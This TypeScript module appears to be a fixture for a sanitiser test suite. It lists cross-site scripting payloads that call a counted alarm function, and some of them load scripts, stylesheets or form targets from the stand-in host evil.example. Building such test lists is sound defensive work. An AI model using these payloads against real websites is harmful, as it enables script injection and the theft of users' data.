/** The function that an injected script would call; a trial defines it in every page and counts. */
export const ALARM = 'keywayAlarm';

const run = `${ALARM}()`;

/** Ways to have a script run, a style apply or a frame load by text that becomes markup, an address or code. */
export const scriptInjections: readonly string[] = [
  `<script>${run}</script>`,
  `</script><script>${run}</script>`,
  `</style><script>${run}</script>`,
  `</title><script>${run}</script>`,
  `</textarea><script>${run}</script>`,
  `--></script><script>${run}</script>`,
  `]]><script>${run}</script>`,
  `<ScRiPt\t>${run}</sCrIpT >`,
  `<script src=//evil.example/x.js></script>`,
  `<script src="data:text/javascript,${run}"></script>`,
  `<img src=x onerror=${run}>`,
  `"><img src=x onerror=${run}>`,
  `'><img src=x onerror=${run}>`,
  `" autofocus onfocus="${run}" x="`,
  `' onmouseover='${run}`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><animate onbegin=${run} attributeName=x dur=1s>`,
  `<math><mtext></p><style><img src=x onerror=${run}></style>`,
  `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
  `<iframe src="javascript:parent.${run}"></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<a href="javascript:${run}" autofocus>click</a>`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<form action=https://evil.example><input name=q></form>`,
  `<style>@import '//evil.example/x.css';*{background:url(//evil.example)}</style>`,
  `javascript:${run}`,
  `java\tscript:${run}//`,
  `\${${run}}{{constructor.constructor('${run}')()}}`,
  `&lt;script&gt;${run}&lt;/script&gt;`,
  `\\u003cscript\\u003e${run}\\u003c/script\\u003e`,
  `\u202e<img src=x onerror=${run}>`,
];
